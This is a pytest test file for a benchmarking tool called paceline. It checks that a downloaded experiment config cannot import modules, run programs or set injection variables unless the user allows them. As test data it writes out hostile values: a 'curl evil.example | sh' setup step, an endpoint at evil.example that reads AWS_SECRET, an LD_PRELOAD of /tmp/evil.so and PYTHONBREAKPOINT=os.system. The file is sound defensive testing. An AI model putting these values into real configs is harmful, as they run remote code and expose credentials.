"""A stranger's experiment names modules and programs in vain, unless the user names them too."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest

from paceline import cli
from paceline.errors import RequestError, shown
from paceline.experiment import foreign, plugins

CASES: dict[str, tuple[dict[str, str], str]] = {
    "workload": ({"workload": "stranger.code"}, "stranger.code"),
    "strategy": ({"strategy": "stranger.code"}, "stranger.code"),
    "launcher": ({"launcher": "stranger.code"}, "stranger.code"),
    "engine": ({"workload": "inference", "engine": "stranger.code", "processes": "1"}, "stranger.code"),
    "program": (
        {"workload": "inference", "processes": "1", "data": "synthetic", "engine": "vllm:executable=/tmp/evil"},
        "engine.executable",
    ),
    "config": ({"strategy": """'zero:config={"tensorboard": {"enabled": true}}'"""}, "strategy.config"),
    "offload": ({"strategy": "zero:stage=3,offload=/tmp/evil"}, "strategy.offload"),
    "key": (
        {"workload": "inference", "processes": "1", "engine": "openai:url=http://evil.example,key_env=AWS_SECRET"},
        "engine.url",
    ),
    "cluster": ({"launcher": 'slurm:setup=["curl evil.example | sh"]'}, "launcher"),
    "variable": ({"env": "{LD_PRELOAD: /tmp/evil.so}"}, "env.LD_PRELOAD"),
}


@pytest.fixture(autouse=True)
def _stranger(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A module that leaves a trace where it is imported, and a project elsewhere."""
    monkeypatch.delenv(foreign.ALLOWED, raising=False)
    package = tmp_path / "path" / "stranger"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text("")
    (package / "code.py").write_text(
        f"open({str(tmp_path / 'imported')!r}, 'w')\n"
        "def check(spec): return 'no'\n"
        "run = wrap = prepare = submit = poll = cancel = open = lambda *_: None\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path / "path"))
    (tmp_path / "project").mkdir()
    monkeypatch.chdir(tmp_path / "project")


def write(path: Path, fields: dict[str, str]) -> str:
    base = {"model": "tiny", "device": "cpu", "processes": "1", "sequence_length": "16", "precision": "fp32", **fields}
    path.write_text("name: mine\nbase:\n" + "".join(f"  {key}: {value}\n" for key, value in base.items()))
    return str(path)


def paceline(*words: str) -> int:
    """As in a fresh process: nothing of the stranger is imported yet."""
    for name in [name for name in sys.modules if name.startswith("stranger")]:
        del sys.modules[name]
    plugins.load.cache_clear()
    return cli.main([*words])


@pytest.mark.parametrize("verb", ["plan", "run"])
@pytest.mark.parametrize("case", list(CASES))
def test_what_a_file_from_elsewhere_names_is_neither_imported_nor_started(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], verb: str, case: str
) -> None:
    fields, name = CASES[case]
    source = write(tmp_path / "downloaded.yaml", fields)
    assert paceline(verb, source) == 2
    message = capsys.readouterr().err
    assert name in message
    assert f"--allow-modules {name}" in message
    assert not (tmp_path / "imported").exists()
    assert not (tmp_path / "project" / "results").exists()


@pytest.mark.parametrize("case", list(CASES))
def test_it_is_used_where_the_user_names_it_or_in_the_users_own_project(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], case: str
) -> None:
    fields, name = CASES[case]
    downloaded = write(tmp_path / "downloaded.yaml", fields)
    own = write(tmp_path / "project" / "own.yaml", fields)
    allowed = f"{name},engine.key_env" if case == "key" else name
    for words in ((downloaded, "--allow-modules", allowed), (own,)):
        (tmp_path / "imported").unlink(missing_ok=True)
        paceline("plan", *words)
        assert "--allow-modules" not in capsys.readouterr().err
        assert (tmp_path / "imported").exists() == (name == "stranger.code")


def test_what_the_command_line_names_is_the_users(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = write(tmp_path / "downloaded.yaml", {})
    paceline("plan", source, "--set", "workload=stranger.code")
    assert (tmp_path / "imported").exists()
    source = write(tmp_path / "downloaded.yaml", {"launcher": "slurm"})
    assert paceline("plan", source, "--launcher", "local") == 0
    capsys.readouterr()


def test_a_link_into_the_project_is_judged_by_where_the_file_is(tmp_path: Path) -> None:
    (tmp_path / "downloaded.yaml").write_text("name: x\n")
    link = tmp_path / "project" / "link.yaml"
    link.symlink_to(tmp_path / "downloaded.yaml")
    assert not foreign.is_own(str(link))
    assert foreign.is_own("quick")


@pytest.mark.parametrize(
    ("variable", "value", "tunes"),
    [
        ("NCCL_ALGO", "Ring", True),
        ("NCCL_BUFFSIZE", "8388608", True),
        ("OMP_PROC_BIND", "close", True),
        ("NCCL_NET_PLUGIN", "evil", False),
        ("NCCL_TUNER_PLUGIN", "evil", False),
        ("NCCL_NET", "evil", False),
        ("NCCL_CONF_FILE", "x", False),
        ("NCCL_COMM_ID", "evil:1", False),
        ("NCCL_SOCKET_IFNAME", "eth0", False),
        ("NCCL_RAS_ADDR", "0.0.0.0:28028", False),
        ("OMP_TOOL_VERBOSE_INIT", "x", False),
        ("NCCL_ALGO", "../x", False),
        ("LD_PRELOAD", "x", False),
        ("LD_LIBRARY_PATH", "x", False),
        ("PYTHONBREAKPOINT", "os.system", False),
        ("CUDA_INJECTION64_PATH", "x", False),
    ],
)
def test_only_variables_that_tune_a_library_are_taken(make_spec: Any, variable: str, value: str, tunes: bool) -> None:
    spec = make_spec("ddp", 1, env={variable: value})
    assert [setting.name for setting in foreign.settings_of(spec)] == ([] if tunes else [f"env.{variable}"])


def test_an_error_does_not_repeat_a_giant_value() -> None:
    assert len(shown("x" * 10**6)) < 300
    assert "too large" in shown(10**5000)
    nested: list[Any] = []
    for _ in range(10**5):
        nested = [nested]
    assert len(shown(nested)) < 300


def test_limits_end_with_their_block() -> None:
    with plugins.imports_limited("x.yaml", lambda name: False), pytest.raises(RequestError):
        plugins.load("workloads", "stranger.code")
    assert plugins.load("workloads", "stranger.code") is not None
